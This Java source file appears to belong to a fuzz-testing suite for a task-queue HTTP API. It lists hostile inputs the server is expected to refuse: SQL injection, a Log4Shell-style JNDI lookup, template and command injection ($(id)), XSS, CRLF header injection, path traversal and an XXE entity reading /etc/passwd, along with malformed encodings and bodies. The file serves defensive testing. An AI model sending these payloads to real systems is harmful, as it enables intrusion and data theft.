package io.taskq.fuzz;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** The attacker's inputs: strings, numbers, bytes, path ids and whole-body shapes no schema lists. */
final class HostileInputs {

  private HostileInputs() {
  }

  /** A hostile value for one place in a body. */
  record Value(String label, Object value) {
  }

  /** A hostile whole body: its bytes and, when the schema cannot say, what the server must answer. */
  record Body(String label, byte[] bytes) {
  }

  static final List<String> INJECTIONS = List.of(
      "' OR 1=1 --", "'; DROP TABLE tasks; --", "\" OR \"\"=\"", "${jndi:ldap://fuzz.invalid/a}", "#{7*7}", "{{7*7}}",
      "../../etc/passwd", "..\\..\\windows\\win.ini", "<script>alert(1)</script>", "%00", "%s%s%s%n", "a\r\nSet-Cookie: x=1",
      "\r\n\r\nGET / HTTP/1.1", "$(id)", "`id`", "\\", "\"", "{\"$gt\": \"\"}", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
      "\u202e\u0635right-to-left", "\ud83d\ude00 emoji", "\u00e9\u0301 combining", "\uffff", "\ufeffbom-inside", "   ", "");

  /** Strings the server cannot store or that are not text: always refused. */
  static final List<Value> NUL_STRINGS = List.of(new Value("U+0000 alone", "\u0000"), new Value("U+0000 inside", "a\u0000b"),
      new Value("U+0000 at the end", "fuzz\u0000"));

  static final List<Value> SURROGATE_STRINGS = List.of(new Value("lone high surrogate", "\ud800"),
      new Value("lone low surrogate", "a\udc00"), new Value("reversed surrogate pair", "\udc00\ud800"),
      new Value("high surrogate at the end", "x\udbff"));

  /** Bytes inside a JSON string that are not UTF-8. */
  static final List<Value> INVALID_UTF8 = List.of(
      new Value("byte FF", bytes(0x61, 0xff, 0x62)),
      new Value("overlong C0 AF ('/')", bytes(0xc0, 0xaf)),
      new Value("overlong E0 80 AF", bytes(0xe0, 0x80, 0xaf)),
      new Value("UTF-8 encoded surrogate ED A0 80", bytes(0x61, 0xed, 0xa0, 0x80)),
      new Value("beyond U+10FFFF F4 90 80 80", bytes(0xf4, 0x90, 0x80, 0x80)),
      new Value("truncated sequence C3", bytes(0x61, 0xc3)),
      new Value("lone continuation 80", bytes(0x80, 0x61)),
      new Value("five-byte form F8 88 80 80 80", bytes(0xf8, 0x88, 0x80, 0x80, 0x80)),
      new Value("latin-1 e9", bytes(0x63, 0x61, 0x66, 0xe9)));

  /** JSON that RFC 8259 does not allow in a string. */
  static final List<Value> BAD_STRING_SYNTAX = List.of(
      new Value("raw NUL byte in a string", bytes(0x61, 0x00, 0x62)),
      new Value("raw tab in a string", bytes(0x61, 0x09, 0x62)),
      new Value("raw line feed in a string", bytes(0x61, 0x0a, 0x62)),
      new Value("escape \\x41", "\\x41".getBytes(StandardCharsets.US_ASCII)),
      new Value("short \\u escape", "\\u12".getBytes(StandardCharsets.US_ASCII)),
      new Value("escape \\uZZZZ", "\\uZZZZ".getBytes(StandardCharsets.US_ASCII)),
      new Value("escaped apostrophe \\'", "\\'".getBytes(StandardCharsets.US_ASCII)));

  /** Number literals no double can hold, or that are not integers of any machine size. */
  static final List<String> NON_FINITE = List.of("1e400", "-1e400", "1E+400", "-0.1e999999999");
  static final List<String> BEYOND_INT64 = List.of("1e19", "9223372036854775808", "-9223372036854775809", "18446744073709551616");

  /** Number literals JSON does not have. */
  static final List<String> NOT_JSON_NUMBERS = List.of("NaN", "Infinity", "-Infinity", "01", "+1", "0x10", ".5", "1.", "1e", "- 1", "1_000");

  static final List<String> BAD_DATE_TIMES = List.of("not a date", "2024-13-01T00:00:00Z", "2024-02-30T00:00:00Z",
      "2024-01-01", "2024-01-01T00:00:00", "2024-01-01 00:00:00Z", "2024-01-01T25:00:00Z", "2024-01-01T00:00:00+24:00",
      "+10000-01-01T00:00:00Z", "-4713-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z",
      "infinity", "-infinity", "epoch", "now", "1700000000", "2024-01-01T00:00:00.Z", "\u0032\u0030\u0032\u0034-01-01T00:00:00\u00a0Z");

  /** Valid RFC 3339 syntax at the edges; the server may still refuse some with 422, never 400 or 5xx. */
  static final List<String> EDGE_DATE_TIMES = List.of("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z",
      "2024-02-29T12:00:00.123456789+14:00", "2024-01-01t00:00:00z", "2016-12-31T23:59:60Z", "2024-06-01T00:00:00-23:59");

  /** RFC 3339 allows the year 0000; PostgreSQL and the issue do not (years 0001-9999 only). */
  static final List<String> YEARS_POSTGRES_CANNOT_HOLD = List.of("0000-01-01T00:00:00Z");

  static final List<String> BAD_UUIDS = List.of("not-a-uuid", "1-1-1-1-1", "00000000-0000-0000-0000-00000000000g",
      "00000000000000000000000000000000", "{00000000-0000-0000-0000-000000000000}", "00000000-0000-0000-0000-0000000000000",
      "urn:uuid:00000000-0000-0000-0000-000000000000", "");

  /** JSON Schemas that compile to something that breaks when used (recursion, remote or missing references). */
  static final List<Value> SCHEMA_TRAPS = List.of(
      new Value("schema {\"$ref\": \"#\"}", Map.of("$ref", "#")),
      new Value("recursive $defs", Map.of("$defs", Map.of("a", Map.of("$ref", "#/$defs/a")), "$ref", "#/$defs/a")),
      new Value("remote $ref", Map.of("$ref", "http://fuzz.invalid/schema.json")),
      new Value("file $ref", Map.of("$ref", "file:///etc/passwd")),
      new Value("missing $ref", Map.of("$ref", "#/$defs/missing")),
      new Value("$ref under properties to the root", Map.of("type", "object", "properties", Map.of("a", Map.of("$ref", "#")))),
      new Value("catastrophic pattern", Map.of("type", "object", "properties", Map.of("s", Map.of("type", "string", "pattern", "^(a+)+$")))),
      new Value("$schema of an unknown draft", Map.of("$schema", "http://fuzz.invalid/draft/99", "type", "object")));

  /** Path ids that name nothing, or name a real id in a form that is not canonical. {@code %s} is a real id. */
  static final List<String> HOSTILE_NUMERIC_IDS = List.of("0", "-1", "-%s", "+%s", "%%2B%s", "0%s", "00%s", "%s.0", "%se0",
      "0x%s", "9223372036854775807", "9223372036854775808", "99999999999999999999999", "%%00", "%s%%00", "%%20%s", "%s%%20",
      "%s%%0A", "%%FF", "%%ED%%A0%%80", "%%C0%%B1", "abc", "%%3Cscript%%3E", "'%%20OR%%201=1%%20--", "..%%2F..%%2Fetc%%2Fpasswd",
      "%%24%%7Bjndi:ldap:%%2F%%2Fx%%7D", "1e400", "NaN");

  static final List<String> HOSTILE_UUID_IDS = List.of("not-a-uuid", "1-1-1-1-1", "00000000-0000-0000-0000-000000000000",
      "%s%%00", "%s%%20", "%%00", "%%FF", "%s0", "%%3Cscript%%3E", "..%%2F..%%2Fetc%%2Fpasswd");

  /** The digits of {@code id} written with other Unicode digits, percent-encoded (fullwidth, Arabic-Indic, ...). */
  static List<Value> unicodeDigits(long id) {
    List<Value> out = new ArrayList<>();
    Map<String, Integer> zeros = new LinkedHashMap<>();
    zeros.put("fullwidth", 0xff10);
    zeros.put("Arabic-Indic", 0x0660);
    zeros.put("Devanagari", 0x0966);
    zeros.put("mathematical bold", 0x1d7ce);
    zeros.forEach((name, zero) -> {
      StringBuilder sb = new StringBuilder();
      for (char c : Long.toString(id).toCharArray()) {
        sb.appendCodePoint(zero + (c - '0'));
      }
      out.add(new Value(name + " digits", percentEncode(sb.toString())));
    });
    return out;
  }

  /** Percent-encodes every byte of the UTF-8 form outside the unreserved set (RFC 3986). */
  static String percentEncode(String s) {
    StringBuilder sb = new StringBuilder();
    for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
      int c = b & 0xff;
      if (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '.' || c == '_' || c == '~') {
        sb.append((char) c);
      } else {
        sb.append('%').append(String.format("%02X", c));
      }
    }
    return sb.toString();
  }

  /** Query values that are not text, or not percent-encoding. */
  static final List<Value> BROKEN_QUERY_VALUES = List.of(new Value("%00", "%00"), new Value("a%00b", "a%00b"),
      new Value("%FF", "%FF"), new Value("overlong %C0%AF", "%C0%AF"), new Value("surrogate %ED%A0%80", "%ED%A0%80"),
      new Value("bad escape %ZZ", "%ZZ"), new Value("truncated escape %", "%"), new Value("truncated escape %4", "%4"));

  /** Whole bodies that are not strict JSON: each must be 400. {@code valid} is a valid body, as text. */
  static List<Body> notStrictJson(String valid) {
    List<Body> out = new ArrayList<>();
    String inner = valid.substring(1, valid.length() - 1);
    String firstMember = inner.isEmpty() ? "\"a\":1" : inner;
    out.add(body("block comment", "{/* fuzz */" + inner + "}"));
    out.add(body("line comment", "{// fuzz\n" + inner + "}"));
    out.add(body("hash comment", "# fuzz\n" + valid));
    out.add(body("trailing comma", inner.isEmpty() ? "{,}" : "{" + inner + ",}"));
    out.add(body("single-quoted key", "{'fuzz':1" + (inner.isEmpty() ? "" : "," + inner) + "}"));
    out.add(body("unquoted key", "{fuzz:1" + (inner.isEmpty() ? "" : "," + inner) + "}"));
    out.add(body("truncated", valid.substring(0, valid.length() - 1)));
    out.add(body("trailing garbage", valid + "x"));
    out.add(body("two values", valid + valid));
    out.add(body("missing colon", "{\"fuzz\" 1}"));
    out.add(body("unclosed string", "{\"fuzz"));
    out.add(body("only an open brace", "{"));
    if (!inner.isEmpty()) {
      out.add(body("duplicate key", "{" + firstMember + "," + inner + "}"));
    }
    out.add(body("NaN member", "{\"fuzz\":NaN}"));
    out.add(body("deeply nested arrays", "[".repeat(100_000)));
    out.add(body("deeply nested arrays, closed", "[".repeat(50_000) + "]".repeat(50_000)));
    return out;
  }

  static final String NULL_BODY = "null body";

  /** Bodies that are JSON but not an object. */
  static List<Body> notAnObject() {
    return List.of(body(NULL_BODY, "null"), body("array body", "[]"), body("array of the object", "[{}]"),
        body("number body", "1"), body("string body", "\"fuzz\""), body("true body", "true"));
  }

  /** The valid body in encodings other than UTF-8, or with a byte order mark. */
  static List<Body> otherEncodings(String valid) {
    List<Body> out = new ArrayList<>();
    out.add(new Body("UTF-8 BOM", concat(bytes(0xef, 0xbb, 0xbf), valid.getBytes(StandardCharsets.UTF_8))));
    out.add(new Body("UTF-16LE", valid.getBytes(StandardCharsets.UTF_16LE)));
    out.add(new Body("UTF-16BE", valid.getBytes(StandardCharsets.UTF_16BE)));
    out.add(new Body("UTF-16 with BOM", valid.getBytes(StandardCharsets.UTF_16)));
    out.add(new Body("UTF-32BE", valid.getBytes(Charset.forName("UTF-32BE"))));
    out.add(new Body("UTF-32LE with BOM", concat(bytes(0xff, 0xfe, 0x00, 0x00), valid.getBytes(Charset.forName("UTF-32LE")))));
    return out;
  }

  static final List<String> WRONG_CONTENT_TYPES = List.of("text/plain", "text/plain; charset=utf-8",
      "multipart/form-data; boundary=fuzz", "application/x-www-form-urlencoded", "application/xml", "text/xml",
      "application/octet-stream", "application/json; charset=iso-8859-1", "application/json; charset=utf-16", "text/json",
      "application/jsonx", "json", "*/*");

  /** Content types that announce JSON in UTF-8: a valid body under them is not refused as unreadable. */
  static final List<String> JSON_CONTENT_TYPES = List.of("application/json; charset=utf-8", "application/json;charset=UTF-8",
      "application/problem+json", "application/vnd.fuzz+json");

  static final List<String> UNKNOWN_QUERY_NAMES = List.of("q", "offset", "sort", "page", "fuzz", "limit[]", "__proto__", "");

  private static Body body(String label, String text) {
    return new Body(label, text.getBytes(StandardCharsets.UTF_8));
  }

  static byte[] bytes(int... values) {
    byte[] out = new byte[values.length];
    for (int i = 0; i < values.length; i++) {
      out[i] = (byte) values[i];
    }
    return out;
  }

  static byte[] concat(byte[] a, byte[] b) {
    byte[] out = new byte[a.length + b.length];
    System.arraycopy(a, 0, out, 0, a.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  /** Nested arrays {@code depth} deep around a value. */
  static JsonText.Raw nested(int depth, String core) {
    return JsonText.Raw.text("[".repeat(depth) + core + "]".repeat(depth));
  }
}
